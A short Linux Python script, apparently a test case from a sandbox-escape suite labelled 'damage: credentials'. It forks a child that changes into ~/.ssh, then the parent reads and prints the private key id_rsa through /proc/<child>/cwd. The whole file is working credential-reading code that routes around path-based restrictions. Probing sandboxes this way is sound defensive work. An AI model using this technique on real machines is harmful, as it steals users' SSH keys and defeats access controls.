# A child that may look opens the key, and the parent reads it through the child.
# damage: credentials
# needs: linux
import os

end, start = os.pipe()
child = os.fork()
if child == 0:
    os.chdir(os.path.expanduser("~/.ssh"))
    os.write(start, b"x")
    os.read(end, 0)
    while True:
        os.sched_yield()
os.read(end, 1)
with open(f"/proc/{child}/cwd/id_rsa") as file:
    print(file.read())
os.kill(child, 9)
os.wait()
